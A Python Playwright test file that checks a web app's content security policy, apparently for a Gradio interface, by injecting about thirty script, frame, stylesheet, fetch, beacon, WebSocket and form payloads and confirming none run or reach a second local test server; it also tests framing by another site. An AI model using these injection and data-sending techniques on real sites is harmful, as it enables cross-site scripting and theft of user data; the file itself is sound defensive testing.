"""The content security policy by itself: whatever got into the page, it runs nothing and sends nothing elsewhere."""

import pytest
from playwright.sync_api import expect

from tests.doubles.web_server import WebServer

# What an attacker would do who could change the page. Each line is tried by itself; {there} is another site.
ATTACKS = [
    "add('script', {{textContent: 'window.wasObeyed = 1'}})",
    "add('script', {{src: '{there}/script.js'}})",
    "add('script', {{src: 'data:text/javascript,window.wasObeyed = 1'}})",
    "add('script', {{src: URL.createObjectURL(new Blob(['window.wasObeyed = 1'], {{type: 'text/javascript'}}))}})",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.wasObeyed = 1\">')",
    "add('a', {{href: 'javascript:window.wasObeyed = 1'}}).click()",
    "add('iframe', {{srcdoc: '<script>parent.wasObeyed = 1</script>'}})",
    "add('iframe', {{src: '{there}/frame.html'}})",
    "add('object', {{data: '{there}/object.html'}})",
    "add('img', {{src: '{there}/picture.png'}})",
    "add('video', {{src: '{there}/video.mp4', autoplay: true}})",
    "add('link', {{rel: 'stylesheet', href: '{there}/style.css'}})",
    "add('link', {{rel: 'prefetch', href: '{there}/prefetch.html'}})",
    "add('link', {{rel: 'modulepreload', href: '{there}/module.js'}})",
    "add('link', {{rel: 'icon', href: '{there}/icon.png'}})",
    "add('style', {{textContent: '@import \"{there}/import.css\"; body {{{{ background: url({there}/back.png) }}}}'}})",
    "add('style', {{textContent: '@font-face {{{{ font-family: x; src: url({there}/f) }}}} * {{{{ font: 9px x }}}}'}})",
    "fetch('{there}/fetch').catch(() => 0)",
    "fetch('{there}/fetch', {{mode: 'no-cors', method: 'POST', body: 'x'}}).catch(() => 0)",
    "navigator.sendBeacon('{there}/beacon', 'x')",
    "new EventSource('{there}/events')",
    "try {{ new WebSocket('{there}/socket'.replace('http', 'ws')) }} catch {{}}",
    "try {{ new Worker('{there}/worker.js') }} catch {{}}",
    "try {{ new Worker(URL.createObjectURL(new Blob(['1']))) }} catch {{ window.noWorker = 1 }}",
    "import('{there}/import.js').catch(() => 0)",
    "add('base', {{href: '{there}/'}}) && fetch('relative').catch(() => 0)",
    "add('form', {{action: '{there}/form', method: 'post', target: '_blank'}}).submit()",
    "add('form', {{action: '/gradio_api/cancel', method: 'post'}}).submit()",
    "add('a', {{href: '#', ping: '{there}/ping'}}).click()",
]
ADD = "(name, values) => document.head.appendChild(Object.assign(document.createElement(name), values))"


@pytest.fixture
def elsewhere():
    with WebServer() as server:
        yield server


@pytest.mark.parametrize("is_held", [True, False], ids=["held", "control"])
def test_nothing_that_gets_into_the_page_runs_or_sends(visit, elsewhere, is_held):
    there = f"http://127.0.0.1:{elsewhere.server_port}"
    visitor = visit(bypass_csp=not is_held)
    for attack in ATTACKS if is_held else ATTACKS[:12]:
        visitor.page.evaluate(f"(() => {{ const add = {ADD}; {attack.format(there=there)} }})()")
    visitor.page.wait_for_timeout(1_500)
    assert (visitor.page.evaluate("window.wasObeyed") is None) == is_held
    assert (elsewhere.requests == []) == is_held
    visitor.errors.clear()  # of what was refused above


def test_no_other_site_frames_the_page(visit, elsewhere):
    visitor = visit()
    address = visitor.page.url
    elsewhere.serve("/", f'<iframe src="{address}"></iframe>', content_type="text/html")
    visitor.page.goto(f"http://127.0.0.1:{elsewhere.server_port}/")
    expect(visitor.page.locator("iframe")).to_be_visible()
    visitor.page.wait_for_timeout(1_000)
    assert not visitor.page.frame_locator("iframe").locator("#question").count()


def test_all_that_the_page_asks_for_is_there(visit):
    refused = []
    visitor = visit()
    visitor.page.on("response", lambda response: refused.append(response.url) if response.status >= 400 else None)
    visitor.page.on("console", lambda said: refused.append(said.text) if "Security Policy" in said.text else None)
    visitor.reload()
    visitor.get_answer("What is the cube root of 27?")
    visitor.open_steps()
    visitor.unfold(visitor.steps.locator(".title").first)
    visitor.attach(("a.csv", b"a,b\n1,2\n"))
    visitor.get_answer("What is in it?")
    assert refused == []
